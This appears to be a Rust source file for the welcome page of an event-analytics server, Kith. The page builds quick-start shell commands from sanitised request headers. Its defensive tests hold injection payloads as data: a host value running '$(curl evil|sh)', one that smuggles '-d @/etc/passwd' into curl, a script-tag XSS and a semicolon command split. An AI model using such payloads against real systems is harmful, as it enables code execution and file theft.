//! `GET /`: what someone who opens the server's address finds. Kith has no dashboard yet, so
//! this says that the server runs and where to go next: the first key, the first event, the
//! first query, and the API's description. Nothing about the data: the page needs no key.

use std::sync::Arc;

use axum::extract::State;
use axum::http::{HeaderMap, HeaderValue, header};
use axum::response::{Html, IntoResponse, Response};
use serde_json::json;

use crate::app::AppState;
use crate::caller::{Origin, PeerAddress};

const VERSION: &str = env!("CARGO_PKG_VERSION");

/// The endpoints worth knowing first, with what each is for.
const LINKS: &[(&str, &str)] = &[
    ("/openapi.json", "every endpoint, described (OpenAPI 3)"),
    ("/healthz", "liveness"),
    ("/readyz", "readiness: events are being made durable"),
    ("/metrics", "Prometheus metrics"),
    ("/docs/errors", "every error code the API answers"),
];

/// `GET /`.
#[utoipa::path(get, path = "/", tag = "operations",
    description = "What this server is and where to start: its version, the first commands (a key, an event, a query) with this server's address, and the endpoints to know. HTML for a browser (`Accept: text/html`), JSON otherwise. Needs no key and says nothing about the data.",
    responses((status = 200, description = "the welcome, as HTML or JSON")))]
pub async fn welcome(
    State(app): State<Arc<AppState>>,
    peer: PeerAddress,
    headers: HeaderMap,
) -> Response {
    let origin = Origin::new(&headers, peer, &app.config.trusted_proxies);
    // Someone on the server's machine gets commands for its data directory; anyone else is not
    // told where it is.
    let data_dir = origin
        .is_on_this_machine()
        .then(|| data_dir_argument(&app.config.data_dir));
    let steps = first_steps(&base_url(&origin), data_dir.as_deref());
    let wants_html = headers
        .get(header::ACCEPT)
        .and_then(|v| v.to_str().ok())
        .is_some_and(|accept| accept.contains("text/html"));
    let mut response = if wants_html {
        Html(page(&steps)).into_response()
    } else {
        axum::Json(json!({
            "name": "Kith",
            "version": VERSION,
            "status": "running",
            "first_steps": steps.iter().map(|(what, command)| json!({"what": what, "command": command})).collect::<Vec<_>>(),
            "links": LINKS.iter().map(|(path, what)| json!({"href": path, "what": what})).collect::<Vec<_>>(),
        }))
        .into_response()
    };
    // The address in it comes from the request's headers: no cache may answer another request
    // with it.
    response
        .headers_mut()
        .insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
    response
}

/// The address to put in the commands. It comes from `Host` or a proxy's headers, which the
/// client writes, and the commands are meant to be pasted into a shell: anything but a plain
/// host name or address (with a port) is replaced by a placeholder.
fn base_url(origin: &Origin<'_>) -> String {
    let (protocol, host) = origin.public_address();
    let plain = !host.is_empty()
        && host
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':' | '[' | ']'));
    if plain {
        format!("{protocol}://{host}")
    } else {
        "http://KITH_ADDRESS".to_string()
    }
}

/// ` --data-dir DIR` for `data_dir`, absolute (the server's working directory is not the
/// reader's) and quoted for a shell where it needs to be.
fn data_dir_argument(data_dir: &std::path::Path) -> String {
    let path = std::path::absolute(data_dir)
        .unwrap_or_else(|_| data_dir.to_path_buf())
        .display()
        .to_string();
    let plain = path
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '/' | '.' | '_' | '-'));
    if plain {
        format!(" --data-dir {path}")
    } else {
        format!(" --data-dir '{}'", path.replace('\'', r"'\''"))
    }
}

/// The commands that take a newcomer from a running server to a first answer. `data_dir` is
/// the `--data-dir` argument for the commands run on the server's machine, when the reader is
/// on it.
fn first_steps(base: &str, data_dir: Option<&str>) -> Vec<(&'static str, String)> {
    let (where_keys_are, data_dir) = match data_dir {
        Some(argument) => (
            "On this machine, create a write key for a source (it prints the key and nothing \
             else; a key works only on the server whose data directory holds it)",
            argument,
        ),
        None => (
            "On the server's machine, create a write key for a source (it prints the key and \
             nothing else; add --data-dir DIR, the server's data directory, unless it is \
             ./kith-data where you run the command)",
            "",
        ),
    };
    vec![
        (
            where_keys_are,
            format!("WRITE_KEY=$(kith key create{data_dir} --scope ingest --source web)"),
        ),
        (
            "Send an event, as any Segment or RudderStack SDK would",
            format!(
                "curl -u \"$WRITE_KEY:\" {base}/v1/track -H 'Content-Type: application/json' \
                 -d '{{\"userId\": \"ana\", \"event\": \"Order Completed\", \"properties\": {{\"revenue\": 349.5, \"currency\": \"MXN\"}}}}'"
            ),
        ),
        (
            "Create a read key and query what was collected",
            format!(
                "READ_KEY=$(kith key create{data_dir} --scope read) && curl -H \"Authorization: Bearer $READ_KEY\" {base}/v1/query \
                 -d '{{\"sql\": \"SELECT event, count(*) AS n FROM events GROUP BY event\"}}'"
            ),
        ),
        (
            "Or query from the server's machine, with or without the server running",
            format!(
                "kith sql{data_dir} \"SELECT event, count(*) AS n FROM events GROUP BY event\""
            ),
        ),
    ]
}

fn page(steps: &[(&str, String)]) -> String {
    let steps: String = steps
        .iter()
        .map(|(what, command)| {
            format!(
                "<li><p>{}</p><pre><code>{}</code></pre></li>\n",
                escape(what),
                escape(command)
            )
        })
        .collect();
    let links: String = LINKS
        .iter()
        .map(|(path, what)| {
            format!(
                "<li><a href=\"{path}\"><code>{path}</code></a>: {}</li>\n",
                escape(what)
            )
        })
        .collect();
    format!(
        "<!doctype html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">\
         <meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\
         <title>Kith {VERSION}</title>\
         <style>body{{font-family:system-ui,sans-serif;max-width:52rem;margin:2rem auto;padding:0 1rem;line-height:1.5}}\
         pre{{background:#f4f4f4;padding:.6rem;overflow-x:auto;white-space:pre-wrap}}</style></head>\n\
         <body><h1>Kith {VERSION} is running</h1>\n\
         <p>Kith collects events the way Segment and RudderStack SDKs send them, keeps each one \
         durably before acknowledging it, and answers SQL over everything collected. Point an SDK \
         at this address, or start here:</p>\n<ol>\n{steps}</ol>\n<h2>Endpoints</h2>\n<ul>\n{links}</ul>\n\
         </body></html>\n"
    )
}

/// Text for HTML: the address in the commands comes from the request's headers.
fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::caller::TrustedProxies;
    use crate::caller::tests::headers as with_headers;

    /// A request from a proxy on this machine.
    fn origin(headers: &HeaderMap) -> Origin<'_> {
        static TRUSTED: std::sync::LazyLock<TrustedProxies> =
            std::sync::LazyLock::new(TrustedProxies::default);
        Origin::new(headers, PeerAddress(Some([127, 0, 0, 1].into())), &TRUSTED)
    }

    #[test]
    fn the_commands_name_this_servers_address() {
        let proxied = with_headers(&[
            ("host", "10.0.0.5:8417"),
            ("x-forwarded-proto", "https"),
            ("x-forwarded-host", "collect.tienda.mx"),
        ]);
        assert_eq!(base_url(&origin(&proxied)), "https://collect.tienda.mx");
        let v6 = with_headers(&[("host", "[::1]:8417")]);
        assert_eq!(base_url(&origin(&v6)), "http://[::1]:8417");
    }

    #[test]
    fn only_a_reader_on_this_machine_is_told_the_data_directory() {
        let trusted = TrustedProxies::default();
        let direct = with_headers(&[("host", "127.0.0.1:8417")]);
        let local = PeerAddress(Some([127, 0, 0, 1].into()));
        assert!(Origin::new(&direct, local, &trusted).is_on_this_machine());
        // Relayed by a proxy on this machine, or from elsewhere: not told.
        let relayed = with_headers(&[("host", "kith.mx"), ("x-forwarded-for", "203.0.113.9")]);
        assert!(!Origin::new(&relayed, local, &trusted).is_on_this_machine());
        let remote = PeerAddress(Some([203, 0, 113, 9].into()));
        assert!(!Origin::new(&direct, remote, &trusted).is_on_this_machine());

        let steps = first_steps("http://127.0.0.1:8417", Some(" --data-dir /srv/kith"));
        assert_eq!(
            steps[0].1,
            "WRITE_KEY=$(kith key create --data-dir /srv/kith --scope ingest --source web)"
        );
        assert!(
            steps[2]
                .1
                .starts_with("READ_KEY=$(kith key create --data-dir /srv/kith --scope read)")
        );
        assert!(
            steps[3]
                .1
                .starts_with("kith sql --data-dir /srv/kith \"SELECT")
        );
        let elsewhere = first_steps("http://127.0.0.1:8417", None);
        assert!(
            !elsewhere
                .iter()
                .any(|(_, command)| command.contains("--data-dir"))
        );
        assert!(elsewhere[0].0.contains("add --data-dir DIR"));
        // A path with spaces or quotes reaches the shell as one word, whatever it holds.
        assert_eq!(
            data_dir_argument(std::path::Path::new("/srv/my kith's data")),
            r" --data-dir '/srv/my kith'\''s data'"
        );
        assert_eq!(
            data_dir_argument(std::path::Path::new("/srv/kith")),
            " --data-dir /srv/kith"
        );
    }

    #[test]
    fn what_the_request_names_cannot_reach_a_shell_or_the_markup() {
        for host in [
            "evil.example/$(curl evil|sh)#",
            "a.mx' -d @/etc/passwd '",
            "<script>alert(1)</script>",
            "a.mx;b",
        ] {
            let mut headers = with_headers(&[("host", "127.0.0.1:8417")]);
            headers.insert("x-forwarded-host", HeaderValue::from_str(host).unwrap());
            assert_eq!(base_url(&origin(&headers)), "http://KITH_ADDRESS", "{host}");
        }
        // And the page escapes what it shows all the same.
        let html = page(&first_steps("http://<b>", None));
        assert!(!html.contains("<b>"), "{html}");
        assert!(html.contains("http://&lt;b&gt;/v1/track"));
    }
}
